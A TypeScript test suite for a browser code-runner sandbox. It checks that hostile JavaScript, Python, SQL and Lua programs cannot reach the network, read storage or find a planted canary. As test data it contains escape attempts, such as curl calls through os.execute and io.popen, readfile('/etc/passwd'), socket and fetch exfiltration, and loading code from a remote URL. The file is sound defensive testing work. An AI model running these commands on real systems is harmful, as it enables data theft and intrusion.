// What hostile programs try without success: network, storage, page, link, forged messages, floods. A sink receives nothing, a canary is never found.
import { expect } from '@esm-bundle/chai';
import { registerLanguage } from '../../components/index.js';
import { openRunner, run, start } from '../fixtures/runner.js';
import { FAMILIES, FLOODS, program, SEARCH, TRICKS } from '../fixtures/sandbox-escapes.js';

const CANARY = 'CANARY-5e1f';
/** Not a way out, only a thing that looks like one: what it makes is of no use without the others. */
const HARMLESS = /^GOT (a timer of text|trusted types) undefined/;

interface Sink {
  url: string;
  udp: number;
  hits: string[];
}
/** Each browser has its own part of the sink; datagrams are everybody's. */
const OWN = crypto.randomUUID();
async function sink(): Promise<Sink> {
  const { url, hits, ...more }: Sink = await (await fetch('/__sink')).json();
  const own = hits.filter((hit) => hit.includes(OWN) || hit.startsWith('UDP'));
  return { ...more, url: `${url}/${OWN}`, hits: own.map((hit) => hit.replace(`/${OWN}`, '')) };
}

describe('a hostile program', function () {
  this.timeout(60_000);
  let page = openRunner();
  before(() => {
    page.close();
    // As a room's link: in the address of the page, and where the page keeps it.
    history.replaceState(null, '', `${location.pathname}${location.search}#k=${CANARY}`);
    for (const storage of [sessionStorage, localStorage]) storage.setItem('code-room', CANARY);
    Reflect.set(document, 'cookie', `canary=${CANARY}`);
    window.name = CANARY;
    page = openRunner();
  });
  after(() => {
    page.close();
    for (const storage of [sessionStorage, localStorage]) storage.removeItem('code-room');
    window.name = '';
  });
  /** Whether anything came; a request of our own, made last, shows that the sink hears. */
  async function heard(): Promise<string[]> {
    const { url, hits } = await sink();
    const known = hits.length;
    await fetch(`${url}/control`);
    const after = (await sink()).hits;
    expect(after.length).to.be.above(known);
    return after.filter((hit) => !hit.endsWith('/control'));
  }

  it('reads no file of the runner’s origin except the runner’s, whatever name the page gives it', async () => {
    const names = [
      '../__room-host',
      '/__room-host',
      `${location.origin}/__room-host`,
      `//${location.host}/__room-host`,
    ];
    const thief = { label: 'Thief', worker: new URL('../fixtures/shout.js', import.meta.url) };
    for (const [index, name] of [...names, '..\\\\__room-host', 'index.html', '__proto__', 'data:,x'].entries()) {
      registerLanguage({ ...thief, id: `thief-${index}`, files: [name] });
      const failure = await run(page.runner, `thief-${index}`, 'x').then(String, String);
      expect(failure).to.include(`The runner has no file "${name}"`);
    }
  });

  it('is one of many', () => {
    const families = [...Object.values(FAMILIES), TRICKS, FLOODS, PYTHON];
    const count = families.reduce((sum, family) => sum + Object.keys(family).length, 0);
    expect(count).to.be.above(100);
  });

  for (const [name, family] of Object.entries(FAMILIES)) {
    for (const language of ['javascript', 'typescript'].slice(0, name === 'network' ? 2 : 1)) {
      it(`has no ${name} in ${language}`, async () => {
        const result = await run(page.runner, language, program(family, await sink()));
        expect(result.stderr).to.equal('');
        expect(result.stdout).to.include(`tried ${Object.keys(family).length}\n`);
        expect(result.stdout).not.to.match(/FORGED|OVERHEARD|TIMED/);
        expect(
          result.stdout.split('\n').filter((line) => line.startsWith('GOT') && !HARMLESS.test(line)),
        ).to.deep.equal([]);
        expect(await heard()).to.deep.equal([]);
      });
    }
  }

  it('does not find the room’s link', async () => {
    const { stdout, stderr } = await run(page.runner, 'javascript', SEARCH);
    expect(stderr + stdout).to.equal('searched []\n');
  });

  for (const [name, trick] of Object.entries(TRICKS)) {
    it(`harms only itself with ${name}`, async () => {
      const { state, transcript } = await run(page.runner, 'javascript', `${trick}\nconsole.log("printed");`, {
        timeLimitMs: 3_000,
      });
      expect(['done', 'failed', 'timed-out']).to.include(state);
      expect(transcript.text()).not.to.include(CANARY);
      expect((await run(page.runner, 'javascript', 'console.log("after")')).stdout).to.equal('after\n');
    });
  }

  for (const [name, flood] of Object.entries(FLOODS)) {
    it(`is stopped in a flood of ${name}`, async () => {
      const { transcript, ended } = start(page.runner, 'javascript', `console.log("on");\n${flood}`);
      await transcript.saying('on');
      page.runner.stop();
      expect((await ended).state).to.equal('stopped');
      expect((await run(page.runner, 'javascript', 'console.log("after")')).stdout).to.equal('after\n');
    });
  }

  it('sends nothing out in Python either', async () => {
    const { url, udp } = await sink();
    const tries = Object.entries(PYTHON).map(
      ([name, code]) =>
        `async def attack():\n${code
          .split('\n')
          .map((line) => `    ${line}`)
          .join('\n')}\nawait attempt(${JSON.stringify(name)}, attack)`,
    );
    const code = `import asyncio
HTTP = ${JSON.stringify(`${url}/python`)}
HOST, PORT, UDP = "127.0.0.1", ${new URL(url).port}, ${udp}
async def attempt(name, attack):
    try:
        got = await asyncio.wait_for(attack(), 1)
        if got is not None:
            print("GOT", name, repr(got)[:100])
    except BaseException as error:
        pass
    # The limit is on silence, and some engines need long for all of them.
    print("after", name)
${tries.join('\n')}
print("tried", ${tries.length})`;
    // One that computes says nothing meanwhile, for long on a machine that has other work.
    const result = await run(page.runner, 'python', code, { timeLimitMs: 30_000 });
    expect(result.stderr).not.to.include('Traceback');
    expect(result.stdout).to.include(`tried ${tries.length}\n`);
    expect(result.stdout).not.to.include('GOT');
    expect(await heard()).to.deep.equal([]);
  });

  it('does not find the room’s link in Python', async () => {
    const { stdout } = await run(
      page.runner,
      'python',
      `import gc, os, sys
found = [str(type(o)) for o in gc.get_objects() if isinstance(o, (str, dict)) and o is not globals() and "CANARY" + "-" in str(o)[:20000]]
found += [k for k, v in os.environ.items() if "CANARY" in v]
import js
names = dir(js)
found += [n for n in ("location", "name", "document", "origin", "sessionStorage") if "CANARY" in str(getattr(js, n, ""))]
print(len(names) > 50, found)`,
      // It says nothing until its end, beside what is left of the floods before it.
      { timeLimitMs: 30_000 },
    );
    expect(stdout).to.equal('True []\n');
  });

  it('sends nothing out in SQL or Lua', async () => {
    const { url } = await sink();
    const statements = [
      `ATTACH DATABASE '${url}/sql' AS x; CREATE TABLE x.t (a);`,
      `SELECT load_extension('${url}/sql');`,
      `SELECT readfile('/etc/passwd');`,
      `SELECT writefile('${url}/sql', 'x');`,
      `CREATE VIRTUAL TABLE f USING fts5('${url}/sql');`,
    ];
    for (const statement of statements) {
      expect((await run(page.runner, 'sql', statement)).transcript.text('table')).not.to.match(/root:/);
    }
    const lua = await run(
      page.runner,
      'lua',
      `
for name, attack in pairs({
  execute = function() return os.execute("curl ${url}/lua") end,
  popen = function() return io.popen("curl ${url}/lua") end,
  loadlib = function() return package.loadlib("${url}/lua", "*") end,
  require = function() return require("socket") end,
  js = function() return js or window or fetch end,
  bytecode = function() return load(string.dump(function() return "ran" end), "x", "b")() == "ran" and nil end,
  registry = function()
    for key, value in pairs(debug.getregistry()) do if tostring(key):find("CANARY") or tostring(value):find("CANARY") then return key end end
  end,
  open = function() return io.open("/etc/passwd") end,
}) do
  local ok, got = pcall(attack)
  if ok and got then print("GOT", name, got) end
end
print("tried")`,
    );
    expect(lua.stdout).to.equal('tried\n');
    expect(await heard()).to.deep.equal([]);
  });

  it('has no more access in a registered language, not even before the lockdown', async () => {
    const { url } = await sink();
    const script = `const got = [];
for (const attack of [() => fetch(${JSON.stringify(url)} + '/boot'), () => importScripts(${JSON.stringify(url)} + '/boot'),
  () => new WebSocket(${JSON.stringify(url.replace('http', 'ws'))}), () => import(${JSON.stringify(url)} + '/boot')]) {
  try { const result = attack(); if (result && result.catch) result.catch(() => {}); } catch {}
}
codeRoomLanguage(() => ({ async run(program, output) { output.write('stdout', [typeof fetch, typeof postMessage, typeof importScripts].join()); return true; } }));`;
    const worker = new URL(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
    registerLanguage({ id: 'hostile', label: 'Hostile', worker });
    const { stdout } = await run(page.runner, 'hostile', '');
    expect(stdout).to.equal('undefined,undefined,undefined');
    expect(await heard()).to.deep.equal([]);
  });
});

/** The body of an asynchronous function each, with HTTP, HOST, PORT and UDP; what it returns is what it got. */
const PYTHON: Readonly<Record<string, string>> = {
  'js.fetch': 'import js\nreturn await js.fetch(HTTP)',
  pyfetch: 'from pyodide.http import pyfetch\nreturn await pyfetch(HTTP)',
  open_url: 'from pyodide.http import open_url\nreturn open_url(HTTP).read()',
  urllib: 'import urllib.request\nreturn urllib.request.urlopen(HTTP, timeout=1).read()',
  'http.client':
    'import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=1)\nc.request("GET", HTTP)\nreturn c.getresponse().status',
  socket: 'import socket\ns = socket.create_connection((HOST, PORT), 1)\ns.send(b"GET / HTTP/1.0")\nreturn s.recv(10)',
  datagram:
    'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", (HOST, UDP))\nreturn s.recv(10)',
  'asyncio streams':
    'r, w = await asyncio.open_connection(HOST, PORT)\nw.write(b"GET / HTTP/1.0")\nreturn await r.read()',
  XMLHttpRequest: 'import js\nx = js.XMLHttpRequest.new()\nx.open("GET", HTTP, False)\nx.send()\nreturn x.status',
  WebSocket: 'import js\nreturn js.WebSocket.new(HTTP.replace("http", "ws"))',
  EventSource: 'import js\nreturn js.EventSource.new(HTTP)',
  sendBeacon: 'import js\nreturn js.navigator.sendBeacon(HTTP) or None',
  importScripts: 'import js\njs.importScripts(HTTP)\nreturn "imported"',
  run_js: 'from pyodide.code import run_js\nreturn await run_js("fetch")(HTTP)',
  'run_js import': 'from pyodide.code import run_js\nreturn await run_js("import(" + repr(HTTP) + ")")',
  'js.eval': 'import js\nreturn js.eval("1")',
  'js.Function': 'import js\nreturn js.Function.new("return 1")()',
  'a constructor': 'import js\nreturn js.Object.constructor("return 1")()',
  Worker: 'import js\nreturn js.Worker.new(HTTP)',
  postMessage: 'import js\njs.postMessage("x")\nreturn "sent"',
  indexedDB: 'import js\nreturn js.indexedDB.open("x")',
  caches: 'import js\nreturn await js.caches.open("x")',
  'the private file system': 'import js\nreturn await js.navigator.storage.getDirectory()',
  localStorage: 'import js\nreturn js.localStorage',
  document: 'import js\nreturn js.document',
  parent: 'import js\nreturn js.parent',
  BroadcastChannel: 'import js\nreturn js.BroadcastChannel.new("x")',
  subprocess: 'import subprocess\nreturn subprocess.run(["ls"], capture_output=True).stdout',
  'os.system': 'import os\nreturn os.system("ls") == 0 or None',
  'os.fork': 'import os\nreturn os.fork()',
  'a thread': 'import threading\nt = threading.Thread(target=print, args=("thread",))\nt.start()\nreturn "started"',
  'the module of Emscripten': 'import pyodide_js\nreturn await pyodide_js._module.fetch(HTTP)',
  'loading packages': 'import pyodide_js\nawait pyodide_js.loadPackage(HTTP + "/x.whl")\nimport x\nreturn "loaded"',
  'mounting the native file system': 'import pyodide_js\nreturn await pyodide_js.mountNativeFS("/x", None)',
  'a font': 'import js\nreturn await js.FontFace.new("x", "url(" + HTTP + ")").load()',
  ctypes: 'import ctypes\nreturn ctypes.CDLL(HTTP)',
};
